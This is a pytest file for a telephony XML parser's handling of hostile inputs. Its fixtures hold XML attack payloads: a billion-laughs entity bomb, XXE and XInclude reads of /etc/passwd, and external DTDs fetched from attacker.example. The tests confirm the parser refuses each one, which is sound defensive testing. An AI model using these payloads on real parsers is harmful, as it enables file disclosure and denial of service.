"""parse() on hostile or broken bodies: always a DocumentError (12100), never an exception."""

from __future__ import annotations

import time

import pytest

from sipline.handlers.actions import DocumentError
from sipline.laml import MAX_BODY_BYTES, MAX_DEPTH, Document, parse
from tests.laml.helpers import BASE, error

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Response><Dial>&lol9;</Dial></Response>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Response><Redirect>&xxe;</Redirect></Response>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Response SYSTEM "http://attacker.example/evil.dtd">
<Response/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Response/>"""


def quadratic_blowup(entity_size: int, references: int) -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "' + b"x" * entity_size + b'">]><Response>'
    return head + b"&a;" * references + b"</Response>"


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, b"<!DOCTYPE Response><Response/>"],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "plain-doctype"],
)
def test_dtds_and_entities_are_refused(body):
    assert error(body).message == "a DTD (<!DOCTYPE ...>) is not allowed in a LaML document"


def test_a_quadratic_blowup_is_refused_without_expanding_anything():
    started = time.perf_counter()
    assert "more than the 65536 allowed" in error(quadratic_blowup(50000, 10000)).message
    assert error(quadratic_blowup(30000, 10000)).message.startswith("a DTD")
    assert time.perf_counter() - started < 1


def test_a_ten_megabyte_body_is_refused_without_being_parsed():
    body = b"<Response>" + b"<Pause/>" * (10 * 1024 * 1024 // 8) + b"</Response>"
    refused = error(body)
    assert refused.message == f"the document is {len(body)} bytes, more than the 65536 allowed"
    assert refused.details == {"limit": "65536"}


def test_a_body_of_exactly_the_limit_is_read():
    head, tail = b"<Response>", b"</Response>"
    body = head + b" " * (MAX_BODY_BYTES - len(head) - len(tail)) + tail
    assert isinstance(parse(body, "text/xml", BASE), Document)


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 5000])
def test_deep_nesting_is_refused(depth):
    body = b"<Response>" + b"<a>" * (depth - 1) + b"</a>" * (depth - 1) + b"</Response>"
    assert error(body).message == f"elements are nested more than {MAX_DEPTH} deep"


def test_deep_unclosed_nesting_is_refused_as_it_is_read():
    assert "nested more than" in error(b"<Response>" + b"<a>" * 20000).message


def test_nesting_up_to_the_limit_is_only_refused_for_what_it_holds():
    body = "<Response>" + "<Dial>" * (MAX_DEPTH - 1) + "</Dial>" * (MAX_DEPTH - 1) + "</Response>"
    assert "nested" not in error(body).message


@pytest.mark.parametrize(
    "body",
    [
        b"<Response><Dial>\xff\xfe100</Dial></Response>",
        b"<Response><Dial>\xc3(</Dial></Response>",
        b"\x80\x81\x82",
        b'<?xml version="1.0" encoding="UTF-8"?><Response>\xed\xa0\x80</Response>',
    ],
)
def test_invalid_utf8_is_refused(body):
    assert error(body).message.startswith("not well-formed XML")


@pytest.mark.parametrize(
    "body",
    [
        b'{"Response": {"Dial": "100"}}',
        b"[1, 2, 3]",
        b"<html><body>Internal Server Error</body></html>",
        b"<Response><Dial>100</Response>",
        b"<Response/><Response/>",
        b"<Response>\x00</Response>",
        b"\x00\x00\x00\x00",
    ],
)
def test_things_that_are_not_one_response_are_refused(body):
    refused = parse(body, "text/xml", BASE)
    assert isinstance(refused, DocumentError) and refused.code == 12100


def test_json_sent_as_xml_says_it_is_not_xml():
    assert error(b'{"version": "1.0.0", "sections": {}}').message == (
        "not well-formed XML: not well-formed (invalid token): line 1, column 0"
    )


@pytest.mark.parametrize("body", [b"", b"   \n\t ", b"\n"])
def test_an_empty_body_is_refused(body):
    assert error(body).message.startswith("the document is empty")


def test_an_unknown_declared_encoding_is_refused():
    assert error(b'<?xml version="1.0" encoding="x-klingon"?><Response/>').message.startswith("not well-formed XML")


def test_a_declared_latin1_encoding_is_honoured():
    assert isinstance(parse(b'<?xml version="1.0" encoding="ISO-8859-1"?><Response/>', None, BASE), Document)


def test_utf16_with_a_byte_order_mark_is_read():
    assert isinstance(parse("<Response><Hangup/></Response>".encode("utf-16"), "text/xml", BASE), Document)


def test_a_body_that_is_not_bytes_is_refused():
    result = parse("<Response/>", None, BASE)  # type: ignore[arg-type]
    assert isinstance(result, DocumentError) and "must be bytes" in result.message


def test_xinclude_is_not_followed():
    body = b'<Response xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Response>'
    assert error(body).message == "<include> is not a LaML voice verb"


def test_processing_instructions_are_ignored():
    assert isinstance(parse(b"<Response><?php echo 1; ?><Hangup/></Response>", None, BASE), Document)


def test_a_huge_attribute_within_the_size_limit_is_refused_by_its_rule():
    refused = error(b'<Response><Dial callerName="' + b"N" * 60000 + b'">1</Dial></Response>')
    assert refused.details["attribute"] == "callerName"
    assert len(refused.message) < 200
